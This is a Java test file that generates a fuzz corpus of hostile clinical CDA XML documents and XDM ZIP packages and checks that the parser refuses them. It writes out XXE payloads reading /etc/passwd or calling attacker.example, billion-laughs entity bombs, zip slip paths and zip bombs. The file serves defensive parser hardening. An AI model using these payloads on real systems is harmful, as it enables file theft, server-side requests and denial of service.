package fr.mssnode.dossier.fuzz;

import static fr.mssnode.dossier.fuzz.KeptCorpus.HostileInput.refused;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

import fr.mssnode.directory.Ins;
import fr.mssnode.directory.InsOid;
import fr.mssnode.dossier.fuzz.KeptCorpus.HostileInput;
import fr.mssnode.fixtures.cda.CdaBuilder;
import fr.mssnode.fixtures.cda.XdmBuilder;

/**
 * Writes the kept corpus of hostile CDA documents and XDM packages, each with the refusal the dossier must answer:
 * XXE, entity blow-ups, a DOCTYPE anywhere, deep nesting, truncation, wrong namespaces, huge values, invalid UTF-8,
 * BOMs, bad base64 and INS for CDA; zip slip, zip bombs, many entries, nested ZIPs and hostile metadata for XDM.
 * Everything is made here, from the project's own builders; nothing is downloaded.
 *
 * <p>Regenerate (then review the diff of expected.tsv): {@code mvn -o test -pl dossier-bridge
 * -Dtest=HostileDossierInputs -Dcorpus.write=true}.
 */
class HostileDossierInputs {
    static final String INS = Ins.withComputedKey("2850575120005").matricule();
    static final String ROOT = InsOid.NIR_TEST.oid();
    static final String DEEP = "100,000 levels of nesting: StackOverflowError escapes instead of a refusal";
    static final String DEEP_STREAMED = "100,000 levels of nesting in a document that names nonXMLBody: 8 to 10 s of CPU"
        + " for 700 KB (quadratic in the depth: 1.4 MB take 44 s, the 32 MB limit allows hours), then accepted";
    static final String EMPTY_PREFIX = "a name with an empty prefix (<:x/> or <x :a=\"1\"/>) in a document that names"
        + " nonXMLBody: org.w3c.dom.DOMException NAMESPACE_ERR escapes from SafeXml's tree builder instead of a refusal"
        + " (found by Jazzer in 4 s)";
    static final String NAME_NOT_UTF8 = "a ZIP entry name that is not UTF-8 (no UTF-8 flag, DOS code page): java.lang."
        + "IllegalArgumentException (malformed input) from ZipInputStream.getNextEntry escapes XdmReader.read, which catches"
        + " IOException only (found by Jazzer in seconds)";
    static final String DEEP_STREAMED_TEXT = "100,000 levels of nesting in a plain-text nonXMLBody: about 10 s of CPU"
        + " (quadratic in the depth), then StackOverflowError";

    @Test
    @EnabledIfSystemProperty(named = "corpus.write", matches = "true")
    void writeTheKeptCorpus() throws IOException {
        List<HostileInput> all = new ArrayList<>();
        all.addAll(cda());
        all.addAll(embedded());
        all.addAll(xdm());
        KeptCorpus.write(all);
        KeptCorpus.writeSeeds(CdaParserFuzzTest.class, "parse", cdaSeeds());
        KeptCorpus.writeSeeds(CdaParserFuzzTest.class, "embeddedContent", cdaSeeds());
        KeptCorpus.writeSeeds(XdmReaderFuzzTest.class, "read", xdmSeeds());
    }

    // ---- CDA -------------------------------------------------------------------------------------------------

    static CdaBuilder letter() {
        return CdaBuilder.of("11490-0", "Lettre de liaison à la sortie").id("1.2.250.1.999.1.1", "fuzz-0001")
            .title("Lettre de liaison").patient(ROOT, INS, "DURAND", "Camille", "19850512", "F")
            .section("11348-0", "Antécédents", "Appendicectomie en 2001");
    }

    static String goodCda() {
        return letter().build();
    }

    static String levelOneCda() {
        return letter().nonXmlBody("application/pdf", "%PDF-1.4 synthetic".getBytes(StandardCharsets.US_ASCII)).build();
    }

    /** The good letter's body after its XML declaration. */
    static String body(String cda) {
        return cda.substring(cda.indexOf("?>") + 2).strip();
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static String deep(String element, int levels) {
        return ("<" + element + ">").repeat(levels) + ("</" + element + ">").repeat(levels);
    }

    static HostileInput cda(String name, byte[] bytes, String reason, String messagePart) {
        return refused("cda", name, bytes, reason, messagePart);
    }

    static HostileInput cda(String name, String xml, String reason, String messagePart) {
        return cda(name, utf8(xml), reason, messagePart);
    }

    static List<HostileInput> cda() {
        List<HostileInput> inputs = new ArrayList<>();
        String good = goodCda();
        String body = body(good);
        String decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

        // XXE: an external entity to a file, to the network, by every URL scheme the JDK knows
        String[][] targets = {{"file-etc-passwd", "file:///etc/passwd"}, {"file-windows", "file:///c:/windows/win.ini"},
            {"http", "http://attacker.example/xxe"}, {"https", "https://attacker.example/xxe"},
            {"ftp", "ftp://attacker.example/xxe"}, {"jar", "jar:http://attacker.example/x.jar!/x"},
            {"netdoc", "netdoc:///etc/passwd"}, {"relative", "../../../../etc/passwd"}};
        for (String[] target : targets) {
            inputs.add(cda("xxe-" + target[0] + ".xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM \"" + target[1]
                + "\">]>\n" + body.replace("<title>Lettre de liaison</title>", "<title>&xxe;</title>"),
                "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        }
        inputs.add(cda("xxe-parameter-entity-http.xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY % remote SYSTEM"
            + " \"http://attacker.example/evil.dtd\"> %remote;]>\n" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-external-dtd-system.xml", decl + "<!DOCTYPE ClinicalDocument SYSTEM \"http://attacker.example/cda.dtd\">\n"
            + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-external-dtd-public.xml", decl + "<!DOCTYPE ClinicalDocument PUBLIC \"-//HL7//CDA\""
            + " \"file:///etc/passwd\">\n" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-in-attribute.xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY xxe \"x\">]>\n"
            + body.replace("code=\"N\"", "code=\"&xxe;\""), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-level-one-body.xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
            + body(levelOneCda()).replace("<title>Lettre de liaison</title>", "<title>&xxe;</title>"), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        String xxeUtf16 = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM"
            + " \"file:///etc/passwd\">]>\n" + body.replace("<title>Lettre de liaison</title>", "<title>&xxe;</title>");
        inputs.add(cda("xxe-utf16le-bom.xml", concat(hex("FFFE"), xxeUtf16.getBytes(StandardCharsets.UTF_16LE)),
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-utf16be-bom.xml", xxeUtf16.getBytes(StandardCharsets.UTF_16), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("xxe-standalone-no.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!DOCTYPE"
            + " ClinicalDocument [<!ENTITY xxe SYSTEM \"http://attacker.example/\">]>\n" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));

        // entity expansion: billion laughs, quadratic blow-up
        inputs.add(cda("billion-laughs.xml", decl + billionLaughs() + body.replace("Lettre de liaison</title>", "&lol9;</title>"),
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("billion-laughs-level-one.xml", decl + billionLaughs() + body(levelOneCda())
            .replace("Lettre de liaison</title>", "&lol9;</title>"), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("billion-laughs-utf16.xml", ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" + billionLaughs() + body)
            .getBytes(StandardCharsets.UTF_16), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("parameter-entity-laughs.xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY % a \"xxxxxxxxxx\">"
            + "<!ENTITY % b \"%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;\"><!ENTITY % c \"%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;\">]>\n" + body,
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        String big = "x".repeat(50_000);
        inputs.add(cda("quadratic-blowup.xml", decl + "<!DOCTYPE ClinicalDocument [<!ENTITY big \"" + big + "\">]>\n"
            + body.replace("Lettre de liaison</title>", "&big;".repeat(20_000) + "</title>"), "DOCTYPE_FORBIDDEN", "DOCTYPE"));

        // a DOCTYPE anywhere
        inputs.add(cda("doctype-after-comment.xml", decl + "<!-- lettre -->\n<!DOCTYPE ClinicalDocument>\n" + body,
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("doctype-after-stylesheet.xml", decl + "<?xml-stylesheet type=\"text/xsl\" href=\"cda.xsl\"?>\n"
            + "<!DOCTYPE ClinicalDocument []>\n" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("doctype-after-bom.xml", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
            utf8("<!DOCTYPE ClinicalDocument>\n" + body)), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("doctype-without-declaration.xml", "<!DOCTYPE ClinicalDocument>" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("doctype-empty-subset.xml", decl + "<!DOCTYPE ClinicalDocument []>" + body, "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(cda("doctype-inside-root.xml", decl + body.replace("<realmCode", "<!DOCTYPE ClinicalDocument><realmCode"),
            "NOT_XML", "Scanner State"));
        inputs.add(cda("doctype-after-root.xml", decl + body + "\n<!DOCTYPE ClinicalDocument>", "NOT_XML",
            "Comment must start with"));
        inputs.add(cda("doctype-inside-level-one-body.xml", decl + body(levelOneCda()).replace("<nonXMLBody>",
            "<nonXMLBody><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"), "NOT_XML", "Scanner State"));
        inputs.add(cda("doctype-lower-case.xml", decl + "<!doctype ClinicalDocument>\n" + body, "NOT_XML",
            "markup in the document preceding the root element"));
        inputs.add(cda("doctype-twice.xml", decl + "<!DOCTYPE ClinicalDocument><!DOCTYPE ClinicalDocument>" + body,
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));

        // deep nesting, 100,000 levels
        int levels = 100_000;
        inputs.add(cda("deep-nesting-structured-body.xml", good.replace("<structuredBody>", "<structuredBody>" + deep("component",
            levels)), "REFUSED", "").knownFinding(DEEP));
        inputs.add(cda("deep-nesting-title.xml", good.replace("<title>Lettre de liaison</title>", "<title>" + deep("b", levels)
            + "</title>"), "REFUSED", "").knownFinding(DEEP));
        inputs.add(cda("deep-nesting-section-text.xml", good.replace("<text>Appendicectomie en 2001</text>", "<text>"
            + deep("paragraph", levels) + "</text>"), "REFUSED", "").knownFinding(DEEP));
        inputs.add(cda("deep-nesting-entry-organizers.xml", good.replace("<text>Appendicectomie en 2001</text>",
            "<text>Bilan</text><entry>" + deep("organizer", levels) + "</entry>"), "REFUSED", "").knownFinding(DEEP));
        inputs.add(cda("deep-nesting-author-name.xml", good.replace("<prefix>Dr</prefix>", "<prefix>" + deep("b", levels)
            + "</prefix>"), "REFUSED", "").knownFinding(DEEP));
        inputs.add(cda("deep-nesting-level-one-body.xml", levelOneCda().replace("<nonXMLBody>", "<nonXMLBody><reference>"
            + deep("x", levels) + "</reference>"), "REFUSED", "").knownFinding(DEEP_STREAMED));
        inputs.add(cda("deep-nesting-without-header.xml", "<ClinicalDocument xmlns=\"urn:hl7-org:v3\">" + deep("x", levels)
            + "</ClinicalDocument>", "MISSING_HEADER", "ClinicalDocument/id"));
        inputs.add(cda("deep-nesting-20000-structured-body.xml", good.replace("<structuredBody>", "<structuredBody>"
            + deep("component", 20_000)), "REFUSED", "").knownFinding(DEEP.replace("100,000", "20,000")));

        // truncated documents
        byte[] goodBytes = utf8(good);
        for (int percent : new int[] {1, 10, 25, 50, 75, 90, 99}) {
            inputs.add(cda("truncated-at-" + percent + "-percent.xml", Arrays.copyOf(goodBytes, goodBytes.length * percent / 100),
                "NOT_XML", ""));
        }
        inputs.add(cda("truncated-last-byte.xml", Arrays.copyOf(goodBytes, goodBytes.length - 2), "NOT_XML", ""));
        int accent = good.indexOf("Antécédents");
        inputs.add(cda("truncated-inside-a-character.xml", Arrays.copyOf(goodBytes,
            utf8(good.substring(0, accent + 3)).length + 1), "NOT_XML", ""));
        byte[] levelOne = utf8(levelOneCda());
        inputs.add(cda("truncated-level-one-in-base64.xml", Arrays.copyOf(levelOne, levelOneCda().indexOf("JVBER") + 8),
            "NOT_XML", ""));
        inputs.add(cda("empty.xml", new byte[0], "NOT_XML", "Premature end of file"));
        inputs.add(cda("only-declaration.xml", decl, "NOT_XML", "Premature end of file"));

        // wrong namespaces, wrong roots
        inputs.add(cda("namespace-hl7-v2.xml", good.replace("urn:hl7-org:v3", "urn:hl7-org:v2"), "NOT_CDA",
            "its root element is ClinicalDocument"));
        inputs.add(cda("namespace-missing.xml", good.replace(" xmlns=\"urn:hl7-org:v3\"", ""), "NOT_CDA",
            "its root element is ClinicalDocument"));
        inputs.add(cda("namespace-upper-case.xml", good.replace("urn:hl7-org:v3", "URN:HL7-ORG:V3"), "NOT_CDA",
            "its root element is ClinicalDocument"));
        inputs.add(cda("namespace-prefixed-elsewhere.xml", good.replace("<ClinicalDocument xmlns=\"urn:hl7-org:v3\">",
            "<cda:ClinicalDocument xmlns:cda=\"urn:hl7-org:v2\" xmlns=\"urn:hl7-org:v3\">").replace("</ClinicalDocument>",
            "</cda:ClinicalDocument>"), "NOT_CDA", "its root element is cda:ClinicalDocument"));
        inputs.add(cda("namespace-header-elsewhere.xml", good.replace("<ClinicalDocument xmlns=\"urn:hl7-org:v3\">",
            "<hl7:ClinicalDocument xmlns:hl7=\"urn:hl7-org:v3\" xmlns=\"urn:hl7-org:v2\">").replace("</ClinicalDocument>",
            "</hl7:ClinicalDocument>"), "MISSING_HEADER", "ClinicalDocument/id"));
        inputs.add(cda("root-other-element.xml", good.replace("ClinicalDocument", "Document"), "NOT_CDA",
            "its root element is Document"));
        inputs.add(cda("root-fhir-bundle.xml", "<Bundle xmlns=\"http://hl7.org/fhir\"><type value=\"document\"/></Bundle>",
            "NOT_CDA", "its root element is Bundle"));

        // huge values
        inputs.add(cda("huge-attribute-33-mb.xml", "<ClinicalDocument xmlns=\"urn:hl7-org:v3\" classCode=\""
            + "A".repeat(33 * 1024 * 1024) + "\"/>", "TOO_LARGE", "the limit is 32.0 MB"));
        inputs.add(cda("huge-attribute-wrong-namespace.xml", "<ClinicalDocument xmlns=\"urn:hl7-org:v2\" classCode=\""
            + "A".repeat(8 * 1024 * 1024) + "\"/>", "NOT_CDA", "its root element is ClinicalDocument"));
        inputs.add(cda("huge-ins-extension.xml", good.replace("extension=\"" + INS + "\"", "extension=\""
            + "1".repeat(1024 * 1024) + "\""), "BAD_INS", "is not an INS matricule"));
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 10_001; i++) {
            attributes.append(" a").append(i).append("=\"1\"");
        }
        inputs.add(cda("ten-thousand-and-one-attributes.xml", good.replace("<realmCode", "<realmCode" + attributes),
            "NOT_XML", "10,000"));
        inputs.add(cda("huge-element-name.xml", "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><" + "n".repeat(2 * 1024 * 1024)
            + "/></ClinicalDocument>", "NOT_XML", "JAXP00010005"));

        // invalid UTF-8 and invalid characters
        String[][] badBytes = {{"lone-continuation-byte", "80"}, {"overlong-slash", "C0AF"}, {"encoded-surrogate", "EDA080"},
            {"byte-f5", "F5808080"}, {"byte-ff", "FF"}, {"truncated-sequence", "E282"}};
        int title = good.indexOf("Lettre de liaison</title>");
        for (String[] bad : badBytes) {
            inputs.add(cda("utf8-" + bad[0] + ".xml", concat(utf8(good.substring(0, title)), hex(bad[1]),
                utf8(good.substring(title))), "NOT_XML", "UTF-8"));
        }
        inputs.add(cda("utf8-latin1-accent.xml", good.getBytes(StandardCharsets.ISO_8859_1), "NOT_XML", "UTF-8"));
        inputs.add(cda("encoding-unknown.xml", good.replace("encoding=\"UTF-8\"", "encoding=\"x-unknown-charset\""),
            "NOT_XML", "x-unknown-charset"));
        inputs.add(cda("encoding-declared-utf16-bytes-ascii.xml", good.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\""),
            "NOT_XML", ""));
        inputs.add(cda("nul-byte.xml", good.replace("Lettre de liaison</title>", "Lettre\0</title>"), "NOT_XML",
            "invalid XML character"));
        inputs.add(cda("control-character.xml", good.replace("Lettre de liaison</title>", "Lettre\u0001</title>"), "NOT_XML",
            "invalid XML character"));
        inputs.add(cda("character-reference-nul.xml", good.replace("Lettre de liaison</title>", "Lettre&#0;</title>"), "NOT_XML",
            "invalid XML character"));
        inputs.add(cda("character-reference-surrogate.xml", good.replace("Lettre de liaison</title>", "&#xD800;</title>"), "NOT_XML",
            "invalid XML character"));
        inputs.add(cda("undeclared-entity.xml", good.replace("Lettre de liaison</title>", "&xxe;</title>"), "NOT_XML",
            "was referenced, but not declared"));

        // byte order marks
        byte[] utf8Bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        inputs.add(cda("bom-twice.xml", concat(utf8Bom, utf8Bom, goodBytes), "NOT_XML", ""));
        inputs.add(cda("bom-utf16le-utf8-content.xml", concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, goodBytes), "NOT_XML", ""));
        inputs.add(cda("bom-utf32.xml", concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, goodBytes), "NOT_XML", ""));
        inputs.add(cda("bom-utf8-declares-utf16.xml", concat(utf8Bom, utf8(good.replace("encoding=\"UTF-8\"",
            "encoding=\"UTF-16\""))), "NOT_XML", ""));
        inputs.add(cda("bom-after-declaration.xml", good.replace("?>\n", "?>\uFEFF"), "NOT_XML", "Content is not allowed in prolog"));
        inputs.add(cda("bom-then-doctype-utf16.xml", ("\uFEFF<!DOCTYPE ClinicalDocument>" + body).getBytes(StandardCharsets.UTF_16BE),
            "DOCTYPE_FORBIDDEN", "DOCTYPE"));

        // level 1: the base64 of the embedded file
        String pdf = "JVBERi0xLjQgc3ludGhldGlj";
        String levelOneText = levelOneCda();
        inputs.add(cda("base64-invalid-character.xml", levelOneText.replace(pdf, "JVBERi0x*jQgc3ludGhldGlj"), "NOT_CDA",
            "not valid base64: character '*'"));
        inputs.add(cda("base64-data-after-padding.xml", levelOneText.replace(pdf, "JVBERi0xLjQgc3ludGhldGl=AAAA"), "NOT_CDA",
            "data after the padding"));
        inputs.add(cda("base64-misplaced-padding.xml", levelOneText.replace(pdf, "J===VBERi0xLjQgc3ludGhldGlj"), "NOT_CDA",
            "misplaced padding"));
        inputs.add(cda("base64-ends-inside-a-byte.xml", levelOneText.replace(pdf, "JVBERi0xLjQgc3ludGhldGljA"), "NOT_CDA",
            "it ends in the middle of a byte"));
        inputs.add(cda("base64-entity-inside.xml", levelOneText.replace(pdf, "JVBE&amp;Ri0x"), "NOT_CDA", "character '&'"));

        // the patient's INS
        String[][] badIns = {{"wrong-key", INS.substring(0, 13) + "00"}, {"letters", "28505ABCDEFGH79"},
            {"too-short", INS.substring(0, 13)}, {"too-long", INS + "1"}, {"empty", ""}, {"spaces", " " + INS + " "},
            {"crlf", INS + "&#13;&#10;Bcc: x@y.fr"}, {"corsica-wrong-key", "185052A00000100"}};
        for (String[] ins : badIns) {
            inputs.add(cda("ins-" + ins[0] + ".xml", good.replace("extension=\"" + INS + "\"", "extension=\"" + ins[1] + "\""),
                "BAD_INS", ins[0].endsWith("wrong-key") ? "has key 00" : "is not an INS matricule"));
        }
        inputs.add(cda("ins-unknown-root.xml", good.replace("root=\"" + ROOT + "\"", "root=\"1.2.250.1.213.1.4.99\""),
            "UNKNOWN_PATIENT_ID_TYPE", "1.2.250.1.213.1.4.99"));
        inputs.add(cda("ins-other-root.xml", good.replace("root=\"" + ROOT + "\"", "root=\"1.2.3.4\""), "NO_INS",
            "no recordTarget/patientRole/id with an INS root"));
        inputs.add(cda("no-patient-role.xml", good.replaceAll("<recordTarget>.*</recordTarget>", ""), "NO_INS",
            "no recordTarget/patientRole"));

        // missing header
        inputs.add(cda("header-no-id.xml", good.replaceFirst("<id root=\"1.2.250.1.999.1.1\" extension=\"fuzz-0001\"/>", ""),
            "MISSING_HEADER", "ClinicalDocument/id"));
        inputs.add(cda("header-id-without-root.xml", good.replace("<id root=\"1.2.250.1.999.1.1\"", "<id root=\"\""),
            "MISSING_HEADER", "ClinicalDocument/id has no root"));
        inputs.add(cda("header-no-author.xml", good.replaceAll("<author>.*</author>", ""), "MISSING_HEADER",
            "ClinicalDocument/author"));

        // names Xerces lets through (an empty prefix) that the tree builder of level-1 documents cannot take
        String levelOneForNames = levelOneCda();
        inputs.add(cda("empty-prefix-element-level-one.xml", levelOneForNames.replace("<signatureCode", "<:ignatureCode"),
            "NOT_XML", "").knownFinding(EMPTY_PREFIX));
        inputs.add(cda("empty-prefix-attribute-level-one.xml",
            levelOneForNames.replace("<signatureCode code=", "<signatureCode :code="),
            "NOT_XML", "").knownFinding(EMPTY_PREFIX));
        inputs.add(cda("colon-name-level-one.xml", levelOneForNames.replace("<signatureCode code=\"S\"/>", "<:/>"),
            "NOT_XML", "").knownFinding(EMPTY_PREFIX));
        inputs.add(cda("trailing-colon-name-level-one.xml", levelOneForNames.replace("<signatureCode", "<signatureCode:"),
            "NOT_XML", "do not match QName production"));
        inputs.add(cda("undeclared-prefix-level-one.xml", levelOneForNames.replace("<signatureCode", "<p:signatureCode"),
            "NOT_XML", "The prefix \"p\" for element \"p:signatureCode\" is not bound"));
        inputs.add(cda("xml-prefix-rebound.xml", good.replace("<realmCode", "<realmCode xmlns:xml=\"urn:autre\""),
            "NOT_XML", "The prefix \"xml\" cannot be bound"));

        // accepted but inert: what an XML processor could be tricked into fetching is never fetched
        inputs.add(new HostileInput("cda", "xinclude-etc-passwd.xml", utf8(good.replace("<title>Lettre de liaison</title>",
            "<title><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></title>")),
            "ACCEPTED_INERT", "root:", ""));
        inputs.add(new HostileInput("cda", "stylesheet-http.xml", utf8(good.replace("?>\n", "?>\n<?xml-stylesheet type=\"text/xsl\""
            + " href=\"http://attacker.example/steal.xsl\"?>\n")), "ACCEPTED_INERT", "attacker", ""));
        inputs.add(new HostileInput("cda", "schema-location-http.xml", utf8(good.replace("<ClinicalDocument xmlns=\"urn:hl7-org:v3\"",
            "<ClinicalDocument xmlns=\"urn:hl7-org:v3\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " xsi:schemaLocation=\"urn:hl7-org:v3 http://attacker.example/CDA.xsd\"")), "ACCEPTED_INERT", "attacker", ""));
        return inputs;
    }

    static String billionLaughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE ClinicalDocument [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            String previous = i == 1 ? "&lol;" : "&lol" + (i - 1) + ";";
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
        }
        return dtd.append("]>\n").toString();
    }

    static byte[] hex(String hex) {
        byte[] bytes = new byte[hex.length() / 2];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) Integer.parseInt(hex.substring(2 * i, 2 * i + 2), 16);
        }
        return bytes;
    }

    /** The unstructured body read again when someone opens the file. */
    static List<HostileInput> embedded() {
        String levelOne = levelOneCda();
        String decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
        List<HostileInput> inputs = new ArrayList<>();
        inputs.add(refused("cda-embedded", "xxe-level-one.xml", utf8(decl + "<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM"
            + " \"file:///etc/passwd\">]>\n" + body(levelOne).replace("JVBERi0xLjQgc3ludGhldGlj", "&xxe;")), "DOCTYPE_FORBIDDEN",
            "DOCTYPE"));
        inputs.add(refused("cda-embedded", "billion-laughs-level-one.xml", utf8(decl + billionLaughs() + body(levelOne)
            .replace("<text mediaType=\"application/pdf\" representation=\"B64\">JVBERi0xLjQgc3ludGhldGlj",
                "<text mediaType=\"text/plain\">&lol9;")), "DOCTYPE_FORBIDDEN", "DOCTYPE"));
        inputs.add(refused("cda-embedded", "base64-invalid.xml", utf8(levelOne.replace("JVBERi0xLjQgc3ludGhldGlj", "JVBE%Ri0x")),
            "NOT_CDA", "not valid base64: character '%'"));
        inputs.add(refused("cda-embedded", "truncated-in-base64.xml", Arrays.copyOf(utf8(levelOne), levelOne.indexOf("JVBER") + 6),
            "NOT_XML", ""));
        inputs.add(refused("cda-embedded", "deep-nesting-plain-text-body.xml", utf8(levelOne.replace(
            "<text mediaType=\"application/pdf\" representation=\"B64\">JVBERi0xLjQgc3ludGhldGlj</text>",
            "<text mediaType=\"text/plain\">" + deep("x", 100_000) + "</text>")), "REFUSED", "").knownFinding(DEEP_STREAMED_TEXT));
        inputs.add(refused("cda-embedded", "empty-prefix-element.xml", utf8(levelOne.replace("<signatureCode", "<:ignatureCode")),
            "NOT_XML", "").knownFinding(EMPTY_PREFIX));
        return inputs;
    }

    // ---- XDM -------------------------------------------------------------------------------------------------

    static XdmBuilder xdmPackage() {
        return new XdmBuilder("SUBSET01", INS, ROOT, "810000000017")
            .document("DOC0001.XML", "text/xml", utf8(goodCda()), "11490-0", "Lettre de liaison à la sortie", "Lettre", "N");
    }

    static HostileInput xdm(String name, byte[] zip, String reason, String messagePart) {
        return refused("xdm", name, zip, reason, messagePart);
    }

    /** A ZIP of the given entries, names written as given, deflated. */
    static byte[] zip(Object... namesAndContents) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                Object content = namesAndContents[i + 1];
                zip.write(content instanceof byte[] raw ? raw : utf8((String) content));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A ZIP whose entries are stored, not deflated (an inner ZIP, already compressed). */
    static byte[] storedZip(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            ZipEntry entry = new ZipEntry(name);
            entry.setMethod(ZipEntry.STORED);
            entry.setSize(content.length);
            CRC32 crc = new CRC32();
            crc.update(content);
            entry.setCrc(crc.getValue());
            zip.putNextEntry(entry);
            zip.write(content);
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    static String metadata(String uriValue) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><lcm:SubmitObjectsRequest xmlns:lcm=\"urn:oasis:names:tc:ebxml-regrep:xsd:"
            + "lcm:3.0\" xmlns:rim=\"urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0\"><rim:RegistryObjectList><rim:ExtrinsicObject"
            + " id=\"urn:uuid:1\" mimeType=\"text/xml\"><rim:Slot name=\"URI\"><rim:ValueList><rim:Value>" + uriValue
            + "</rim:Value></rim:ValueList></rim:Slot></rim:ExtrinsicObject></rim:RegistryObjectList></lcm:SubmitObjectsRequest>";
    }

    static List<HostileInput> xdm() {
        List<HostileInput> inputs = new ArrayList<>();
        // zip slip: entry names that leave the package
        String[][] slips = {{"parent-parent", "../../etc/cron.d/evil"}, {"inside-then-out", "IHE_XDM/SUBSET01/../../../etc/x"},
            {"absolute", "/etc/passwd"}, {"absolute-backslash", "\\windows\\win.ini"}, {"backslash-parent", "..\\..\\evil.bat"},
            {"drive-letter", "C:/Windows/System32/evil.dll"}, {"drive-letter-backslash", "c:\\evil.dll"}, {"dot-dot", ".."},
            {"dot-slash-parent", "./../evil"}, {"parent-directory-entry", "../evil/"}, {"nul-in-name", "IHE_XDM/x\0/../../x"},
            {"deep-parent", "a/b/c/d/e/f/../../../../../../../x"}};
        for (String[] slip : slips) {
            // the refusal names the bad entry (up to a NUL, which the corpus index cannot hold)
            String named = slip[1].contains("\0") ? "entry '" + slip[1].substring(0, slip[1].indexOf('\0'))
                : "entry '" + slip[1] + "' would be written outside the package";
            inputs.add(xdm("zip-slip-" + slip[0] + ".zip", xdmPackage().rawEntry(slip[1], "pwned").build(), "UNSAFE_ZIP", named));
        }
        inputs.add(xdm("zip-slip-first-entry.zip", zip("../../../../tmp/evil.sh", "#!/bin/sh"), "UNSAFE_ZIP",
            "entry '../../../../tmp/evil.sh' would be written outside the package"));
        // the metadata pointing outside the package
        for (String[] uri : new String[][] {{"parent", "../../../etc/passwd"}, {"absolute", "/etc/passwd"},
            {"backslash", "..\\..\\secret.xml"}, {"drive-letter", "C:/secret.xml"}}) {
            inputs.add(xdm("uri-slip-" + uri[0] + ".zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata(uri[1]),
                "IHE_XDM/SUBSET01/DOC0001.XML", goodCda()), "MISSING_FILE", uri[1]));
        }
        // zip bombs: high ratio entries
        inputs.add(xdm("bomb-metadata-16-mb-of-zeros.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", new byte[16 * 1024 * 1024]),
            "UNSAFE_ZIP", "inflates more than 100 times"));
        inputs.add(xdm("bomb-document-64-mb-of-zeros.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata("DOC0001.XML"),
